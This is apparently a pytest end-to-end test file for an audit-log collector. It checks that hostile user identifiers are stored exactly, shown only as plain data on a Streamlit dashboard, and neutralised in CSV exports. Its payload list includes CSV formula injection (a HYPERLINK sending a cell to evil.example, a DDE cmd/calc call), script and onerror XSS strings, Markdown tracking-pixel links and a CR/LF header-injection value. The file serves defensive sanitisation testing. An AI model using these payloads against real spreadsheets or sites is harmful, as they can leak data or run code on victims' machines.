"""Hostile data end to end: from a request, over HTTP, to the store, the dashboard and the CSV.

The Confluence simulator sends the Flask example app (wrapped by the collector) page loads and
context-token calls whose acting user, in the host-signed token, is a hostile string: formula
starters (``=``, ``+``, ``-``, ``@``), HTML and script, Markdown links and images; its hostile
site adds a clientKey that starts with a formula and an install description with CR/LF and a
script. Acting users with a leading tab, a CR or CR/LF are refused by the verifier
(``invalid_claim``: control characters never become an identity) and travel only as the
refused token's unverified claims. Then:

* the store holds each value exactly as the host sent it (an audit log does not "clean" what
  it saw), control characters included where they are stored (claims, install description);
* the dashboard (Streamlit AppTest: the Activity and Who-acted pages and each event's detail)
  shows each value, and only as data: in a table or plain text, never in an HTML element and
  never in the source of a Markdown element, so nothing renders, links or runs;
* ``connect-audit export --format csv`` and the dashboard's export neutralise every text cell
  that starts with ``=``, ``+``, ``-``, ``@``, tab, CR or LF with a leading ``'``, leave every
  other cell as it is, and keep CR/LF inside quoted cells (the CSV has exactly one record per
  event, checked against the NDJSON export of the same events, which keeps values exact).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import sqlalchemy as sa
from attackkit import EndToEnd

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
DASHBOARD = str(ROOT / "dashboard" / "main.py")
ADMIN_PASSWORD = "hostile admin password 7"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
#: Acting users the host vouches for in a signed token: recorded as the account id.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+SUM(1,2)",
    "-2+3 cmd",
    "@cmd|' /C calc'!A0",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "[click me](https://evil.example) ![pixel](https://evil.example/t.png)",
)
#: Acting users with control characters: the verifier refuses such a ``sub`` (invalid_claim),
#: so they never become an identity; they reach the store only as the refused token's
#: unverified claims (JSON), and the dashboard shows them there.
CONTROL = ("\t=1+1 tabbed", "\rcarriage", "line one\r\nInjected-Header: yes")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """One end-to-end run (SQLite) with the hostile requests added; yields (run, url, dir)."""
    root = tmp_path_factory.mktemp("hostile-e2e")
    url = f"sqlite:///{root / 'audit.db'}"
    saved = {k: os.environ.get(k) for k in ("CONNECT_AUDIT_DATA_DIR", "CONNECT_AUDIT_DATABASE_URL")}
    os.environ["CONNECT_AUDIT_DATA_DIR"] = str(root / "data")
    os.environ.pop("CONNECT_AUDIT_DATABASE_URL", None)
    try:
        with EndToEnd(root / "run", url, actions=60, seed=3) as run:
            for value in HOSTILE:
                response = run.sim.page_load("acme", user=value, params={"q": value})
                assert response.status_code == 200, (value, response.status_code, response.text[:300])
                run.sim.context_call("acme", "GET", "/api/me", user=value)  # refused exchange: 403
            for value in CONTROL:
                response = run.sim.page_load("acme", user=value, params={"q": value})
                assert response.status_code == 401, (value, response.status_code)
            run.flush()
            yield run, url, root
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value


def _rows(url: str, sql: str, **params) -> list[tuple]:
    engine = sa.create_engine(url)
    try:
        with engine.connect() as conn:
            return list(conn.execute(sa.text(sql), params))
    finally:
        engine.dispose()


def test_the_store_keeps_hostile_values_exactly(hostile_run):
    _, url, _ = hostile_run
    for value in HOSTILE:
        rows = _rows(url, "SELECT direction, outcome FROM audit_events WHERE account_id = :v", v=value)
        directions = {d for d, _ in rows}
        assert "incoming" in directions, (value, rows)
    umbrella = _rows(url, "SELECT DISTINCT tenant_client_key FROM audit_events "
                          "WHERE tenant_client_key LIKE '=%'")
    assert umbrella, "the hostile site's formula-shaped clientKey did not reach the store"
    descriptions = {r[0] for r in _rows(url, "SELECT description FROM installs")}
    assert any(d and "\r\n" in d and "<script>" in d for d in descriptions), descriptions
    for value in CONTROL:
        pattern = f"%{json.dumps(value)[1:-1]}%"  # as the claims JSON spells it
        refused = _rows(url, "SELECT reason, account_id, claims FROM audit_events "
                             "WHERE outcome = 'rejected' AND claims LIKE :v", v=pattern)
        assert refused, f"the refused token of {value!r} was not recorded with its claims"
        assert {(r[0], r[1]) for r in refused} == {("invalid_claim", None)}, refused


# ---------------------------------------------------------------------------- the dashboard


def _nodes(node):
    if getattr(node, "proto", None) is not None:
        yield node
    children = getattr(node, "children", None)
    if isinstance(children, dict):
        for child in children.values():
            yield from _nodes(child)


def _where_shown(at, value: str) -> list[tuple[str, object]]:
    """The elements of the page whose content includes ``value`` (kind, proto)."""
    needle = value.encode()
    return [(node.proto.DESCRIPTOR.name, node.proto) for node in _nodes(at._tree)
            if needle in node.proto.SerializeToString()]


#: A value with any of these would mean something to a Markdown renderer (a link, an image,
#: emphasis, a table, a line break) and must not reach one verbatim.
MARKDOWN_ACTIVE = set("<>[]()!*_`#|\r\n")


def _assert_only_as_data(at, value: str, page: str) -> bool:
    shown = _where_shown(at, value)
    for kind, proto in shown:
        assert kind not in ("Html", "IFrame"), f"{value!r} is inside an HTML element on {page}"
        if kind == "Markdown":
            assert not proto.allow_html, f"{value!r} is in Markdown with HTML allowed on {page}"
            assert not MARKDOWN_ACTIVE & set(value), (
                f"{value!r} is in the source of a Markdown element on {page}: {proto.body!r}")
    return bool(shown)


def test_the_dashboard_shows_hostile_values_only_as_data(hostile_run, monkeypatch):
    from streamlit.testing.v1 import AppTest

    _, url, _ = hostile_run
    monkeypatch.setenv("CONNECT_AUDIT_DATABASE_URL", url)
    monkeypatch.setenv("CONNECT_AUDIT_ADMIN_PASSWORD", ADMIN_PASSWORD)
    at = AppTest.from_file(DASHBOARD, default_timeout=120)
    at.run()
    at.text_input(key="sign_in_name").input("admin")
    at.text_input(key="sign_in_password").input(ADMIN_PASSWORD)
    at.button(key="FormSubmitter:sign_in-Sign in").click().run()
    assert not at.exception, [e.value for e in at.exception]

    def open_page(name: str, **params):
        at.switch_page(f"views/{name}.py")
        at.query_params.clear()
        at.query_params.update(params)
        at.run()
        assert not at.exception, (name, [e.value for e in at.exception])

    seen: dict[str, set[str]] = {value: set() for value in HOSTILE}
    for name in ("activity", "who_acted", "installs", "denials", "overview"):
        open_page(name, range="all")
        for value in HOSTILE:
            if _assert_only_as_data(at, value, name):
                seen[value].add(name)
    for value in HOSTILE:
        event_id = _rows(url, "SELECT event_id FROM audit_events WHERE account_id = :v "
                              "AND direction = 'incoming' LIMIT 1", v=value)[0][0]
        open_page("activity", range="all", event=event_id)
        if _assert_only_as_data(at, value, f"the detail of {event_id}"):
            seen[value].add("event detail")
    # Tables show a person by name, or by their id's start; the whole id is in the detail.
    missing = [value for value, pages in seen.items() if "event detail" not in pages]
    assert not missing, f"hostile values the dashboard never showed: {missing} ({seen})"
    for value in CONTROL:  # the refused token's unverified claims, in the event's detail
        event_id = _rows(url, "SELECT event_id FROM audit_events WHERE outcome = 'rejected' "
                              "AND claims LIKE :v LIMIT 1", v=f"%{json.dumps(value)[1:-1]}%")[0][0]
        open_page("activity", range="all", event=event_id)
        assert _assert_only_as_data(at, value, f"the detail of {event_id}"), (
            f"the detail of the refused token does not show its sub {value!r}")


# ---------------------------------------------------------------------------- the CSV


def _export(url: str, fmt: str) -> bytes:
    env = {k: v for k, v in os.environ.items() if k != "CONNECT_AUDIT_DATABASE_URL"}
    proc = subprocess.run([sys.executable, "-m", "collector.cli", "export", "--format", fmt,
                           "--database", url], cwd=ROOT, env=env,
                          capture_output=True, timeout=300)
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    return proc.stdout


def check_csv_against_ndjson(csv_bytes: bytes, ndjson_bytes: bytes) -> int:
    """Every text cell of the CSV is the exact value, with a ``'`` in front exactly when the
    value starts with a formula character; returns how many cells were neutralised."""
    exact = {doc["event_id"]: doc for doc in map(json.loads, ndjson_bytes.decode().splitlines())}
    reader = csv.DictReader(io.StringIO(csv_bytes.decode(), newline=""))
    rows = list(reader)
    assert reader.fieldnames[:15] == [
        "event_id", "timestamp", "direction", "tenant_client_key", "tenant_base_url", "auth_method",
        "identity_kind", "account_id", "method", "path", "required_scope", "status", "outcome", "reason",
        "latency_ms"]
    neutralised = 0
    ids = set()
    for row in rows:
        doc = exact.get(row["event_id"])
        if doc is None:
            continue  # an export recorded after the NDJSON one was taken
        ids.add(row["event_id"])
        for column, cell in row.items():
            value = doc.get(column)
            if not isinstance(value, str):
                continue
            if value.startswith(FORMULA_START):
                assert cell == "'" + value, (column, value, cell)
                neutralised += 1
            else:
                assert cell == value, (column, value, cell)
    assert ids == set(exact), "the CSV and the NDJSON export disagree on the events"
    return neutralised


def test_csv_export_neutralises_formulas_and_keeps_records_whole(hostile_run):
    _, url, _ = hostile_run
    ndjson_bytes = _export(url, "ndjson")
    csv_bytes = _export(url, "csv")
    neutralised = check_csv_against_ndjson(csv_bytes, ndjson_bytes)
    # Each hostile account id that starts like a formula, in incoming and outgoing events,
    # and the hostile site's clientKey on all of its events.
    assert neutralised >= 2 * sum(v.startswith(FORMULA_START) for v in HOSTILE)
    # Whatever the column: no cell a spreadsheet would evaluate.
    for record in csv.reader(io.StringIO(csv_bytes.decode(), newline="")):
        assert not [cell for cell in record if cell.startswith(FORMULA_START)], record


def test_dashboard_export_neutralises_the_same_way(hostile_run, monkeypatch):
    from collector.query import EventFilter
    from dashboard import queries

    _, url, _ = hostile_run
    monkeypatch.setenv("CONNECT_AUDIT_DATABASE_URL", url)
    ndjson_bytes, _ = queries.export_bytes(EventFilter(), "ndjson", actor="hostile test (dashboard)")
    csv_bytes, _ = queries.export_bytes(EventFilter(), "csv", actor="hostile test (dashboard)")
    assert check_csv_against_ndjson(csv_bytes, ndjson_bytes) > 0
